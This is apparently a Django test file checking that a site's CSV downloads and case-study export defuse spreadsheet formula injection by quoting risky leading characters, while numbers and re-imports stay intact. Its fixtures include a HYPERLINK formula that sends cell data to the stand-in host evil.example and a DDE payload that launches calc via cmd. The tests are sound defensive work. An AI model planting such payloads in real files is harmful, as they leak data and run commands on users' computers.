"""Spreadsheet-safe CSV (OWASP, CSV injection): every CSV made to be opened in a spreadsheet — /data/praktik-baik.csv,
the search API's CSV and `export_casestudies --format csv` — quotes text cells that begin with =, +, -, @, a tab or
a carriage return; numbers stay numbers; the case-study CSV still makes the round trip exactly."""

import csv
import io
import tempfile
from decimal import Decimal
from io import StringIO
from pathlib import Path

from django.core.management import call_command
from django.test import SimpleTestCase

from casestudies.models import CaseStudyPage
from cms.spreadsheet_csv import FORMULA_STARTS, spreadsheet_cell, spreadsheet_row, text_from_spreadsheet
from tests.utils import SiteTestCase, make_case_study

TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
SUMMARY = "+cmd|' /C calc'!A0"
TAG = "=1+1"


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


class SpreadsheetCellTests(SimpleTestCase):
    def test_text_starting_with_a_formula_character_is_quoted(self):
        for start in FORMULA_STARTS:
            with self.subTest(start=start):
                self.assertEqual(spreadsheet_cell(f"{start}1+1"), f"'{start}1+1")
        self.assertEqual(spreadsheet_cell(TITLE), "'" + TITLE)
        self.assertEqual(spreadsheet_cell("-0.5"), "'-0.5", "text is text, even when it looks like a number")

    def test_other_text_is_unchanged(self):
        for text in ("Mal pelayanan publik", "1+1", " =1+1", "a=b", "", "37;43", "37:2-4", "pengaduan; =1+1"):
            with self.subTest(text=text):
                self.assertEqual(spreadsheet_cell(text), text)

    def test_numbers_stay_numbers(self):
        self.assertEqual(spreadsheet_row([-0.5, -3, Decimal("-1.25"), 0, None]), [-0.5, -3, Decimal("-1.25"), 0, None])
        self.assertEqual(spreadsheet_cell(True), "True")

    def test_reading_back_gives_what_was_written(self):
        for text in (TITLE, SUMMARY, TAG, "-5 hari", "'=sudah dikutip", "'biasa", "''", "'", "\tx", "\r", "biasa", ""):
            with self.subTest(text=text):
                self.assertEqual(text_from_spreadsheet(spreadsheet_cell(text)), text)
        self.assertEqual(text_from_spreadsheet("'biasa"), "'biasa", "a quote typed by hand is kept")
        self.assertIsNone(text_from_spreadsheet(None))


class CsvDownloadsTests(SiteTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        cls.hostile = make_case_study(cls.page_a, title=TITLE, summary=SUMMARY, indicators=(42,))
        cls.hostile.tags.add(TAG)
        cls.hostile.save_revision().publish()
        cls.dash = make_case_study(
            cls.page_b, title="-5 hari: izin kilat", summary="@warga bisa mengurus", indicators=(43,)
        )

    def assert_no_formula(self, rows):
        for row in rows:
            for cell in row:
                self.assertFalse(cell.startswith(FORMULA_STARTS) and not is_number(cell), f"{cell!r} would run")

    def test_open_data_csv(self):
        response = self.client.get("/data/praktik-baik.csv")
        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
        self.assert_no_formula(rows)
        records = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
        hostile = next(r for r in records if r["title"] == "'" + TITLE)
        self.assertEqual(hostile["summary"], "'" + SUMMARY)
        self.assertEqual(hostile["tags"], "'" + TAG)
        self.assertIn("'-5 hari: izin kilat", [r["title"] for r in records])

    def test_search_api_csv(self):
        response = self.client.get("/api/v1/search/", {"format": "csv"})
        self.assertEqual(response.status_code, 200)
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        self.assert_no_formula(rows)
        titles = [row[rows[0].index("title")] for row in rows[1:]]
        self.assertIn("'" + TITLE, titles)
        self.assertIn("'-5 hari: izin kilat", titles)

    def test_export_csv_is_neutralised_and_reimports_exactly(self):
        with tempfile.TemporaryDirectory() as tmp:
            exported = Path(tmp) / "ekspor.csv"
            call_command("export_casestudies", "--format", "csv", "--output", str(exported), stderr=StringIO())
            text = exported.read_text(encoding="utf-8")
            rows = list(csv.reader(io.StringIO(text)))
            self.assert_no_formula(rows)
            records = list(csv.DictReader(io.StringIO(text)))
            hostile = next(r for r in records if r["title"] == "'" + TITLE)
            self.assertEqual((hostile["summary"], hostile["tags"]), ("'" + SUMMARY, "'" + TAG))

            for page in list(CaseStudyPage.objects.all()):
                page.delete()
            call_command("import_casestudies", str(exported), "--publish", stdout=StringIO(), stderr=StringIO())
        hostile = CaseStudyPage.objects.get(external_id=f"page-{self.hostile.pk}")
        self.assertEqual((hostile.title, hostile.summary, hostile.tag_names), (TITLE, SUMMARY, [TAG]))
        dash = CaseStudyPage.objects.get(external_id=f"page-{self.dash.pk}")
        self.assertEqual((dash.title, dash.summary), ("-5 hari: izin kilat", "@warga bisa mengurus"))
